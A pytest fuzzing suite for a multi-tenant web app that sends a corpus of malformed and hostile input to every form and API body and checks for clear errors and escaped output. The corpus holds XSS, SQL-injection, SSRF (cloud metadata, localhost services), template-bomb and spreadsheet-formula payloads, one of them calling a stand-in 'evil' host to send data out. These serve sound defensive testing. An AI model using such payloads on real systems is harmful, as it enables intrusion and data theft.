"""A corpus of bad input sent to every form and every API body the app has, found without a list.

Forms come from crawling the pages as a district admin who is also a platform operator; POST routes of
the URL map that no page showed a form for are posted to blind. API bodies come from the OpenAPI
document. Every answer must be below 500; a 4xx says what is wrong (a `field-error` or `flash-error`
element or the error page for HTML, `code` and `message` for JSON, or the error array of a standard
protocol the app speaks, Open311's); and no page, before or after the corpus was stored, carries a payload
unescaped.

Each form is first filled with values it accepts (found by trying), so a bad value in one field meets
valid values in the others and reaches the service and the database. The values that differ field by
field (markup, empty, too long, a number past 64 bits) go into one field at a time, where an accepted
one is stored and then shown on the pages that list it; the rest of the corpus goes into every typed
field of a submission at once, which keeps the run within a couple of minutes per backend.
"""

from __future__ import annotations

import io
import itertools
import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient

from saas import db
from saas.auth import hash_password
from tenants import services
from tenants.models import PlatformOperator, RoleGrant, Tenant, User
from tests.fuzz import crawl
from tests.fuzz.crawl import UNESCAPED, Form
from tests.plugin import TEST_PASSWORD, bearer, operator_session_data, session_data

# a view that raises answers 500 through the kernel's handler, as in production, instead of raising into
# the test: the fuzzer then reports the route and the value
pytestmark = pytest.mark.config(HANDLE_UNEXPECTED=True)

SCRIPT = "<script>alert(1)</script>"
SCRIPT_ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
IMG = '"><img src=x onerror=alert(1)>'
# into one field at a time, the others valid
PER_FIELD: list[Any] = [SCRIPT, IMG, "", "a" * 10000, 2**70]
# into every typed field of one submission
ALL_AT_ONCE: list[Any] = [
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    " ",
    "😀👨‍👩‍👧",
    "𠀀𪚥䶵",
    "\u202eevil",
    "2026-02-30",
    "9999-99-99",
    "\x00",
    "{{7*7}}",
    # the server as a weapon: internal addresses (a URL field must refuse them), a template bomb (notice wording)
    "http://127.0.0.1:6379/",
    "http://[::1]:5432/",
    "https://169.254.169.254/latest/meta-data/",
    "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
    # data that goes out: a formula prefix (exports), personal data in disguise (public feeds)
    '=HYPERLINK("http://evil/?d="&M2,"x")',
    "@SUM(1+1)",
    "１３８　００１３　８０００ zhang(at)example。com 一三八〇〇一三八〇〇〇",
    -1,
    1.5,
    None,
    [],
    {},
    True,
]
CORPUS: list[Any] = PER_FIELD + ALL_AT_ONCE
# in JSON the types matter field by field too
JSON_PER_FIELD: list[Any] = [*PER_FIELD, -1, 1.5, None, [], {}, True]
JSON_ALL_AT_ONCE: list[Any] = [v for v in ALL_AT_ONCE if v not in JSON_PER_FIELD or isinstance(v, str)]
# a field the person does not type into (hidden, select, checkbox): what a tampered request sends
CHOICE_CORPUS: list[Any] = [SCRIPT, "", 2**70]
CHOICE_KINDS = ("hidden", "select", "checkbox", "radio", "button")
# a free segment of a URL (a module key, a day); ids get 0 and numbers past 63 bits
PATH_CORPUS = [SCRIPT, "a" * 300, "2026-02-30", str(2**70)]
BLIND_CORPUS: list[Any] = [SCRIPT, "", "\x00", None]
SEARCH_CAP = 30  # submissions tried to find values a form accepts
MISSING = object()


class Problems:
    """What went wrong, grouped by route and kind of failure, with the first value that showed it."""

    def __init__(self) -> None:
        self.items: dict[tuple[str, str], list[str]] = {}

    def add(self, where: str, what: str, detail: str) -> None:
        self.items.setdefault((where, detail), []).append(what)

    def __bool__(self) -> bool:
        return bool(self.items)

    def __str__(self) -> str:
        lines = [f"{where}: {detail} [{whats[0]}]" + (f" and {len(whats) - 1} more values" if len(whats) > 1 else "")
                 for (where, detail), whats in self.items.items()]
        more = f"\n... and {len(lines) - 60} more" if len(lines) > 60 else ""
        return f"{len(lines)} problems:\n" + "\n".join(lines[:60]) + more


def short(value: Any) -> str:
    text = repr(value)
    return text if len(text) <= 40 else text[:30] + f"...({len(text)} chars)"


def check_answer(problems: Problems, where: str, what: str, response: Any) -> None:
    """Below 500; a 4xx explains itself; nothing it echoes is unescaped."""
    status = response.status_code
    body = response.get_data(as_text=True) if response.mimetype in ("text/html", "application/json") else ""
    if status >= 500:
        problems.add(where, what, f"HTTP {status}")
        return
    if 400 <= status < 500:
        if protocol_errors(response):
            pass
        elif response.mimetype == "application/json":
            payload = response.get_json(silent=True) or {}
            if not (isinstance(payload.get("code"), str) and payload["code"] and payload.get("message")):
                problems.add(where, what, f"HTTP {status} JSON without code and message: {body[:200]}")
        elif not any(marker in body for marker in ('class="field-error', "flash-error", 'class="error-page"')):
            problems.add(where, what, f"HTTP {status} without a field-error, flash-error or error page")
    if response.mimetype == "text/html":
        for marker in UNESCAPED:
            if marker in body:
                problems.add(where, what, f"HTTP {status} page shows {marker!r} unescaped")


def protocol_errors(response: Any) -> bool:
    """A 4xx in the error format of a standard protocol the app speaks explains itself too: Open311 GeoReport
    v2 answers an array of errors, each with a code and a description, in JSON or in XML (`<errors>`)."""
    if response.mimetype == "application/json":
        payload = response.get_json(silent=True)
        return isinstance(payload, list) and bool(payload) and all(
            isinstance(e, dict) and e.get("code") and e.get("description") for e in payload)
    if response.mimetype == "text/xml":
        try:
            root = ElementTree.fromstring(response.get_data())  # noqa: S314 - the app's own answer
        except ElementTree.ParseError:
            return False
        return root.tag == "errors" and len(root) > 0 and all(
            e.findtext("code") and e.findtext("description") for e in root)
    return False


def check_log(problems: Problems, caplog: pytest.LogCaptureFixture) -> None:
    """What the kernel's error handler logged: a view that raised (the 500 the answer already showed, with
    its traceback in the log), or a value only the database refused, which got the generic 400 instead of
    a message about its field because the schema misses a rule (a length, a range) that the column has."""
    for record in caplog.records:
        if record.name == "saas.errors":
            problems.add("log", record.levelname, record.getMessage()[:300])


# --- who posts ---------------------------------------------------------------------------------------


@pytest.fixture
def operator_id(app: Flask) -> int:
    with app.app_context(), db.platform_context():
        op = PlatformOperator(username="fuzz-op", name="平台", password_hash=hash_password(TEST_PASSWORD))
        db.session.add(op)
        db.session.commit()
        return op.id


class Browser:
    """The district admin and a platform operator in one session, signed in again after any answer that
    changed the session: a value that signs out or switches the language does not change who asks next."""

    def __init__(self, app: Flask, district: Any, operator_id: int | None = None):
        self.district = district
        self.operator_id = operator_id
        self.client: FlaskClient = app.test_client()
        self.stale = True

    def sign_in(self) -> None:
        data = session_data(self.client.application, self.district.admin)
        if self.operator_id is not None:
            data |= operator_session_data(self.client.application, self.operator_id)
        with self.client.session_transaction() as sess:
            sess.clear()
            sess.update(data)
        self.stale = False

    def open(self, url: str, **kwargs: Any) -> Any:
        if self.stale:
            self.sign_in()
        response = self.client.open(url, **kwargs)
        self.stale = "Set-Cookie" in response.headers
        return response

    def get(self, url: str, **kwargs: Any) -> Any:
        return self.open(url, method="GET", **kwargs)

    def post(self, url: str, **kwargs: Any) -> Any:
        return self.open(url, method="POST", **kwargs)


def restore(app: Flask, factory: Any, district: Any) -> None:
    """Undo what a form may have done to the fuzzer itself: a module switched off, the admin's role revoked, the
    district suspended, a temporary password set for the admin (every page would send them to change it)."""
    with app.app_context(), db.platform_context():
        db.session.execute(sa.update(Tenant).where(Tenant.id == district.tenant.id).values(active=True))
        db.session.commit()
    for spec in app.extensions["saas.modules"]:
        factory.enable_module(district.tenant, spec.key)
    with factory.as_tenant(district.tenant) as s:
        user = s.scalars(sa.select(User).where(User.id == district.admin.id)).one()
        user.must_change_password = False
        roles = set(s.scalars(sa.select(RoleGrant.role).where(RoleGrant.user_id == user.id)))
        if "district_admin" not in roles:
            services.grant_role(s, app.extensions["saas.roles"], None, user, "district_admin",
                                services.district_root(s))
        s.commit()


# --- filling a form ----------------------------------------------------------------------------------


class Fresh:
    """A new number for every submission, so values that must be unique (codes, names) are."""

    def __init__(self) -> None:
        self.n = 0

    def __call__(self) -> int:
        self.n += 1
        return self.n


def text_hints(name: str, kind: str = "text", inputmode: str = "", required: bool = True,
               codes: list[str] | None = None) -> list[str]:
    """Plausible values for a text field, by its name and type; `{n}` becomes a fresh number."""
    name = name.lower()
    optional = [] if required else [""]
    if kind == "date" or name.endswith(("date", "day")):
        return ["2026-03-02", "2026-10-08"]
    if kind == "time" or name.endswith(("_start", "_end")):
        return ["22:00", "07:00"]
    if kind == "email" or "email" in name:
        return [*optional, "fz{n}@example.cn"]
    if kind == "url" or name.endswith("url"):
        return [*optional, "https://example.cn/hook/{n}"]
    if kind == "password" or "password" in name or "secret" in name:
        return [*optional, "Fuzz-pass-{n}-x", TEST_PASSWORD]
    if "phone" in name:
        return [*optional, "139{n:08d}"]
    if name == "slug":
        return ["fz{n}"]
    if "timezone" in name:
        return ["Asia/Shanghai"]
    if name == "code":  # the new thing's own code: a fresh one
        return ["FZ{n}"]
    if name.endswith("code"):  # a reference to something that exists: a code the pages show
        return [*optional, *(codes or [])[:12], "FZ{n}"]
    if name in ("login", "username", "user"):
        return ["fz{n}", "admin"]
    if kind == "number" or inputmode == "numeric" or name.endswith(("days", "hours", "count")):
        return ["5", "1", "30"]
    return [*optional, "测试{n}"]


def form_candidates(form: Form, site_codes: list[str]) -> list[tuple[str, list[Any]]]:
    """Each field of the form with the values to try, the value the page put there first."""
    codes = list(dict.fromkeys(form.codes + site_codes))
    out: dict[str, list[Any]] = {}
    for f in form.fields:
        if not f.name or f.name == "csrf_token":
            continue
        values = out.setdefault(f.name, [])
        if f.kind in ("hidden", "button"):
            values.append(f.value)
        elif f.kind == "checkbox":
            values.extend([f.value or "on", MISSING] if f.checked else [MISSING, f.value or "on"])
        elif f.kind == "radio":
            values.insert(0, f.value) if f.checked else values.append(f.value)
        elif f.kind == "select":
            options = [o for o in f.options if o] + [o for o in f.options if not o]
            values.extend(([f.value] if f.value else []) + options)
        elif f.kind == "file":
            values.append(("file", b"", "empty.csv"))
        else:
            values.extend(([f.value] if f.value else []) + text_hints(f.name, f.kind, f.inputmode, f.required, codes))
    return [(name, list(dict.fromkeys(values)) or [""]) for name, values in out.items()]


def multipart(fields: dict[str, Any]) -> dict[str, Any]:
    """A multipart body built in memory: werkzeug's test client spools a large one to a temporary file
    it never closes, which pytest (warnings as errors) reports as a leak."""
    boundary = "fuzz-boundary-7d1b"
    out = io.BytesIO()
    for name, value in fields.items():
        for item in value if isinstance(value, list) else [value]:
            out.write(f"--{boundary}\r\n".encode())
            if isinstance(item, tuple):
                content, filename = item
                content = content.getvalue() if isinstance(content, io.BytesIO) else content
                out.write(f'Content-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'.encode(
                    "utf-8", "surrogatepass"))
                out.write(b"Content-Type: application/octet-stream\r\n\r\n" + content + b"\r\n")
            else:
                out.write(f'Content-Disposition: form-data; name="{name}"\r\n\r\n'.encode())
                out.write(str(item).encode("utf-8", "surrogatepass") + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return {"data": out.getvalue(), "content_type": f"multipart/form-data; boundary={boundary}"}


def encode(data: dict[str, Any], is_multipart: bool) -> dict[str, Any]:
    return multipart(data) if is_multipart else {"data": data}


def materialize(value: Any, n: int) -> Any:
    if value is MISSING:
        return MISSING
    if isinstance(value, tuple) and value[:1] == ("file",):
        return (value[1], value[2])
    if isinstance(value, str) and "{n" in value:
        return value.format(n=n)
    return value


def form_value(value: Any) -> Any:
    """A corpus value as a browser could send it in a form: text, a repeated field, or nothing."""
    if value is None:
        return MISSING
    if isinstance(value, list):
        return ["x", "y"]
    if isinstance(value, dict):
        return "{}"
    if isinstance(value, bool):
        return "true"
    return str(value)


def form_data(assignment: dict[str, Any], n: int) -> dict[str, Any]:
    data = {}
    for name, value in assignment.items():
        value = materialize(value, n)
        if value is not MISSING:
            data[name] = value
    return data


def accepted(response: Any) -> bool:
    if response.status_code >= 400:
        return False
    body = response.get_data(as_text=True) if response.mimetype == "text/html" else ""
    return "field-error" not in body and "flash-error" not in body


def find_baseline(post: Callable[[dict[str, Any]], Any], candidates: list[tuple[str, list[Any]]],
                  fresh: Fresh) -> tuple[dict[str, Any], Any]:
    """Values the form (or body) accepts, tried in order, and the answer that accepted them; the first
    try and None when nothing was accepted."""
    names = [name for name, _values in candidates]
    combos = itertools.product(*(values for _name, values in candidates))
    first: dict[str, Any] | None = None
    for combo in itertools.islice(combos, SEARCH_CAP):
        assignment = dict(zip(names, combo, strict=True))
        first = first or assignment
        response = post(form_data(assignment, fresh()))
        if accepted(response):
            return assignment, response
    return first or {}, None


# --- forms -------------------------------------------------------------------------------------------


def discover(app: Flask, browser: Browser, slug: str) -> tuple[crawl.Site, dict[str, Form]]:
    """The site as the admin sees it, and one form per POST endpoint (the first page that shows it)."""
    site = crawl.crawl(app, _SignedIn(browser), slug)
    anonymous = crawl.crawl(app, _Anonymous(browser), slug)
    site.pages = {**anonymous.pages, **site.pages}
    site.forms += anonymous.forms
    forms: dict[str, Form] = {}
    for form in site.forms:
        matched = crawl.endpoint_of(app, form.action)
        if matched is not None:
            forms.setdefault(matched[0], form)
    return site, forms


class _Anonymous:
    """The same client with nobody signed in, for the public pages (landing, sign-in)."""

    def __init__(self, browser: Browser):
        self.browser = browser

    def get(self, url: str, **kwargs: Any) -> Any:
        with self.browser.client.session_transaction() as sess:
            sess.clear()
        self.browser.stale = True
        return self.browser.client.get(url, **kwargs)


class _SignedIn:
    def __init__(self, browser: Browser):
        self.browser = browser

    def get(self, url: str, **kwargs: Any) -> Any:
        return self.browser.get(url, **kwargs)


def check_pages(problems: Problems, pages: dict[str, str], when: str) -> None:
    for url, html in pages.items():
        if html.startswith("SERVER ERROR"):
            problems.add(f"GET {url}", when, html)
        for marker in UNESCAPED:
            if marker in html:
                problems.add(f"GET {url}", when, f"shows {marker!r} unescaped")


def fuzz_form(browser: Browser, endpoint: str, form: Form, codes: list[str], fresh: Fresh,
              problems: Problems) -> tuple[bool, int, list[Form]]:
    """Find values the form accepts, then send the corpus into its fields; also bad URL segments.

    Also returns the forms on the page that the accepted submission led to (the code form after a phone
    number, the confirm button after an upload), which no GET shows."""
    multi = form.multipart or any(f.kind == "file" for f in form.fields)
    where = f"POST {form.action} ({endpoint})"

    def post(data: dict[str, Any]) -> Any:
        return browser.post(form.action, **encode(data, multi))

    def with_values(values: dict[str, Any]) -> dict[str, Any]:
        data = form_data(baseline, fresh())
        for name, value in values.items():
            data.pop(name, None)
            if isinstance(data_kinds.get(name), tuple):  # a file field gets the value as the file's content
                data[name] = (str(value).encode("utf-8", "surrogatepass"), "fuzz.csv")
            elif form_value(value) is not MISSING:
                data[name] = form_value(value)
        return data

    candidates = form_candidates(form, codes)
    baseline, answer = find_baseline(post, candidates, fresh)
    ok = answer is not None
    revealed = forms_after(browser, answer) if ok else []
    data_kinds = {name: baseline.get(name) for name, _values in candidates}
    kinds = {f.name: f.kind for f in reversed(form.fields)}
    typed = [name for name, _values in candidates if kinds.get(name) not in CHOICE_KINDS]
    sent = 0
    for name, _values in candidates:
        for value in CHOICE_CORPUS if kinds.get(name) in CHOICE_KINDS else PER_FIELD:
            check_answer(problems, where, f"{name}={short(value)}", post(with_values({name: value})))
            sent += 1
    for value in ALL_AT_ONCE if typed else []:
        check_answer(problems, where, f"{'+'.join(typed)}={short(value)}",
                     post(with_values(dict.fromkeys(typed, value))))
        sent += 1
    for url in crawl.bad_segment_urls(browser.client.application, form.action, PATH_CORPUS):
        response = browser.post(url, **encode(form_data(baseline, fresh()), multi))
        sent += 1
        check_answer(problems, f"POST {url[:80]} ({endpoint})", "path", response)
    return ok, sent, revealed


def forms_after(browser: Browser, response: Any) -> list[Form]:
    page = response.request.path
    if response.status_code in (301, 302, 303) and response.location:
        page = response.location
        response = browser.get(page)
    if response.mimetype != "text/html":
        return []
    return crawl.parse(page, response.get_data(as_text=True)).forms


def fuzz_blind(browser: Browser, rule: Any, slug: str, problems: Problems) -> int:
    """A POST route no page showed a form for: a few values under common names, bad URL segments."""
    sent = 0
    for url in crawl.blind_urls(rule, slug, [quote(v, safe="") for v in PATH_CORPUS]):
        for value in BLIND_CORPUS:
            data = {} if value is None else {k: form_value(value) for k in ("name", "value")}
            response = browser.post(url, data=data)
            sent += 1
            check_answer(problems, f"POST {url[:80]} ({rule.endpoint}, blind)", short(value), response)
    return sent


def test_every_form_refuses_bad_input_clearly_and_escapes_what_it_keeps(app, factory, district, operator_id,
                                                                          caplog):
    browser = Browser(app, district, operator_id)
    problems = Problems()
    site, forms = discover(app, browser, district.slug)
    check_pages(problems, site.pages, "before")
    assert len(site.pages) >= 10, sorted(site.pages)
    fresh = Fresh()
    summary = []
    queue = sorted(forms.items())
    while queue:
        endpoint, form = queue.pop(0)
        started = time.perf_counter()
        ok, sent, revealed = fuzz_form(browser, endpoint, form, site.codes, fresh, problems)
        summary.append(f"{endpoint}: {sent} posts in {time.perf_counter() - started:.1f} s, fields {form.names()}, "
                       f"accepted baseline: {ok}")
        restore(app, factory, district)
        for new in revealed:
            matched = crawl.endpoint_of(app, new.action)
            if matched is not None and matched[0] not in forms:
                forms[matched[0]] = new
                queue.append((matched[0], new))
    for rule in crawl.post_rules(app):
        if rule.endpoint not in forms:
            sent = fuzz_blind(browser, rule, district.slug, problems)
            summary.append(f"{rule.endpoint}: {sent} blind posts (no page showed its form)")
    after, _forms = discover(app, browser, district.slug)
    check_pages(problems, after.pages, "after the corpus")
    check_log(problems, caplog)
    print("\n".join(summary))
    assert not problems, str(problems)
    # the corpus was really stored somewhere and shown, escaped: the check above was not vacuous
    assert any(SCRIPT_ESCAPED in html for html in after.pages.values()), "no stored payload is displayed anywhere"


# --- the API -----------------------------------------------------------------------------------------


def resolve(doc: dict[str, Any], schema: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in schema:
        node: Any = doc
        for part in schema["$ref"].lstrip("#/").split("/"):
            node = node[part]
        schema = node
    return schema


def json_candidates(doc: dict[str, Any], name: str, prop: dict[str, Any], codes: list[str]) -> list[Any]:
    prop = resolve(doc, prop)
    kind = prop.get("type")
    kind = next((k for k in kind if k != "null"), "string") if isinstance(kind, list) else kind
    if "enum" in prop:
        return list(prop["enum"])
    if kind == "boolean":
        return [True, False]
    if kind in ("integer", "number"):
        low = prop.get("minimum", 1)
        return list(dict.fromkeys([max(low, 5), low]))
    if kind == "object":
        return [{}]
    if kind == "array":
        return [[]]
    if prop.get("format") == "date":
        return ["2026-03-02", "2026-10-08"]
    if prop.get("format") == "date-time":
        return ["2026-03-02T09:00:00+08:00"]
    return text_hints(name, codes=codes)


@dataclass
class Operation:
    method: str
    path: str
    urls: list[str]
    media: str
    properties: dict[str, dict[str, Any]]
    required: list[str] = field(default_factory=list)

    @property
    def label(self) -> str:
        return f"{self.method.upper()} {self.path}"


def api_operations(doc: dict[str, Any], slug: str, known: dict[str, list[str]]) -> Iterator[Operation]:
    """Every operation of the document that takes a body, with real URLs for its path parameters."""
    for path, item in doc["paths"].items():
        for method, op in item.items():
            if method not in ("post", "put", "patch") or "requestBody" not in op:
                continue
            params = [resolve(doc, p) for p in item.get("parameters", []) + op.get("parameters", [])]
            choices = []
            for p in params:
                if p["in"] != "path":
                    continue
                values = [slug] if p["name"] == "tenant" else (
                    p.get("schema", {}).get("enum") or known.get(p["name"]) or ["x"])
                choices.append([(p["name"], str(v)) for v in values[:3]])
            urls = []
            for combo in itertools.product(*choices):
                url = path
                for name, value in combo:
                    url = url.replace("{" + name + "}", value)
                urls.append(url)
            media, content = next(iter(op["requestBody"]["content"].items()))
            schema = resolve(doc, content.get("schema", {}))
            yield Operation(method, path, urls, media, schema.get("properties", {}), schema.get("required", []))


def is_file(prop: dict[str, Any]) -> bool:
    """A file field of a multipart body: one file, or a list of files."""
    return prop.get("format") == "binary" or (prop.get("items") or {}).get("format") == "binary"


def send(client: FlaskClient, op: Operation, url: str, body: Any, headers: dict[str, str]) -> Any:
    if op.media == "multipart/form-data":
        data = {}
        for name, value in (body if isinstance(body, dict) else {}).items():
            if is_file(op.properties.get(name, {})):
                data[name] = (str(value).encode("utf-8", "surrogatepass"), "fuzz.csv")
            elif form_value(value) is not MISSING:
                data[name] = form_value(value)
        return client.open(url, method=op.method, headers=headers, **multipart(data))
    return client.open(url, method=op.method, data=json.dumps(body), headers=headers, content_type=op.media)


def test_every_api_body_refuses_bad_input_clearly(app, factory, district, known_values, caplog):
    client = app.test_client()
    headers = bearer(district.token)
    problems = Problems()
    doc = client.get("/api/openapi.json").json
    fresh = Fresh()
    operations = list(api_operations(doc, district.slug, known_values))
    assert operations, "the document lists no operation with a body"
    summary = []
    for op in operations:
        for url in op.urls:
            where = f"{op.label} at {url}"
            candidates = [(name, json_candidates(doc, name, op.properties[name], district.codes))
                          for name in op.required if name in op.properties]

            def post(body: dict[str, Any], url: str = url, op: Operation = op) -> Any:
                return send(client, op, url, body, headers)

            baseline, answer = find_baseline(post, candidates, fresh)
            sent = 0
            for name in op.properties:
                for value in JSON_PER_FIELD:
                    body = {**form_data(baseline, fresh()), name: value}
                    check_answer(problems, where, f"{name}={short(value)}", post(body))
                    sent += 1
            for value in JSON_ALL_AT_ONCE:
                body = {**form_data(baseline, fresh()), **dict.fromkeys(op.properties, value)}
                check_answer(problems, where, f"every field={short(value)}", post(body))
                sent += 1
            for value in (None, [], "x", 2**70, True):  # the whole body of a wrong type
                check_answer(problems, where, f"body={short(value)}", post(value))
                sent += 1
            for raw, media in (("{", "application/json"), ("not json", "application/json"),
                               ('{"a": 1}', "text/plain"), ("\x00", "application/json")):
                check_answer(problems, where, f"raw {raw!r} as {media}",
                             client.open(url, method=op.method, data=raw, headers=headers, content_type=media))
                sent += 1
            summary.append(f"{where}: {sent} requests, accepted baseline: {answer is not None}")
        restore(app, factory, district)
    site = crawl.crawl(app, _SignedIn(Browser(app, district)), district.slug)
    check_pages(problems, site.pages, "after the API corpus")
    check_log(problems, caplog)
    print("\n".join(summary))
    assert not problems, str(problems)
    assert any(SCRIPT_ESCAPED in html for html in site.pages.values()), "no payload the API stored is displayed"


# --- bodies too large --------------------------------------------------------------------------------

SMALL_LIMIT = 64 * 1024


@pytest.mark.config(MAX_CONTENT_LENGTH=SMALL_LIMIT, HANDLE_UNEXPECTED=True)
def test_every_post_route_answers_413_to_a_body_over_the_limit(app, district, operator_id):
    """A huge form or upload to any POST route (page or API) is refused with 413 and a message, never a 500."""
    browser = Browser(app, district, operator_id)
    problems = Problems()
    big = "a" * (SMALL_LIMIT + 1)
    targets = []
    for rule in crawl.post_rules(app):
        targets.extend(itertools.islice(crawl.blind_urls(rule, district.slug, ["x"]), 1))
    doc = app.test_client().get("/api/openapi.json").json
    for path, item in doc["paths"].items():
        for method in item:
            if method in ("post", "put", "patch"):
                targets.append((method, path))
    assert targets
    for target in targets:
        method, url = ("post", target) if isinstance(target, str) else target
        url = url.replace("{tenant}", district.slug)
        url = "/".join(("x" if part.startswith("{") else part) for part in url.split("/"))
        headers = bearer(district.token) if url.startswith("/api/") else {}
        for kind, kwargs in (
            ("form", {"data": {"name": big}}),
            ("upload", multipart({"file": (big.encode(), "big.csv")})),
            ("json", {"data": json.dumps({"name": big}), "content_type": "application/json"}),
        ):
            browser.sign_in()
            response = browser.client.open(url, method=method.upper(), headers=headers, **kwargs)
            where = f"{method.upper()} {url}"
            if response.status_code != 413:
                problems.add(where, kind, f"HTTP {response.status_code}, not 413")
            check_answer(problems, where, kind, response)
    assert not problems, str(problems)


def test_an_upload_over_the_real_limit_gets_413(app, district, operator_id):
    """The deployment's own limit (20 MB by default) on every upload the app offers, page and API."""
    limit = app.config["MAX_CONTENT_LENGTH"]
    browser = Browser(app, district, operator_id)
    _site, forms = discover(app, browser, district.slug)
    uploads = [f for f in forms.values() if any(field.kind == "file" for field in f.fields)]
    doc = app.test_client().get("/api/openapi.json").json
    api_uploads = [op for op in api_operations(doc, district.slug, {}) if op.media == "multipart/form-data"]
    assert uploads or api_uploads, "the app offers no upload; drop this test"
    blob = b"a" * (limit + 1)
    for form in uploads:
        name = next(field.name for field in form.fields if field.kind == "file")
        response = browser.post(form.action, **multipart({name: (blob, "big.csv")}))
        assert response.status_code == 413, form.action
        assert 'class="error-page"' in response.get_data(as_text=True)
    for op in api_uploads:
        name = next(n for n, p in op.properties.items() if is_file(p))
        response = app.test_client().open(op.urls[0], method=op.method, headers=bearer(district.token),
                                          **multipart({name: (blob, "big.csv")}))
        assert response.status_code == 413, op.label
        assert response.json["code"] == "too_large"
        assert response.json["message"]


def test_a_credential_in_a_url_is_refused_clearly_by_every_mount_and_never_logged(app, district, caplog):
    """A token in a URL lands in access logs: every route of a module's mount (Open311 today) refuses a query
    string carrying `api_key`, whatever the method and whether or not the token is good, in its protocol's
    error format, and no log line carries the token."""
    import logging

    caplog.set_level(logging.DEBUG)
    problems = Problems()
    prefixes = [m.url_prefix.rstrip("/") for spec in app.extensions["saas.modules"] for m in spec.mounts]
    client = app.test_client()
    asked = 0
    for rule in app.url_map.iter_rules():
        if not any(rule.rule.startswith(prefix + "/") for prefix in prefixes):
            continue
        path = rule.rule
        for name in rule.arguments:
            path = path.replace(f"<any(json, xml):{name}>", "json").replace(f"<{name}>", "x")
        for method in sorted((rule.methods or set()) & {"GET", "POST"}):
            for token in (district.token, "wgt_not-a-token"):
                response = client.open(f"{path}?jurisdiction_id={district.slug}&api_key={quote(token)}",
                                       method=method, data={"service_code": "x"} if method == "POST" else None)
                asked += 1
                where = f"{method} {path}"
                check_answer(problems, where, "api_key in the URL", response)
                if response.status_code != 400 or not protocol_errors(response):
                    problems.add(where, "api_key in the URL", f"HTTP {response.status_code}, not 400 in the protocol")
    assert asked
    for record in caplog.records:
        if district.token in record.getMessage():
            problems.add("log", record.name, "carries the token")
    assert not problems, str(problems)
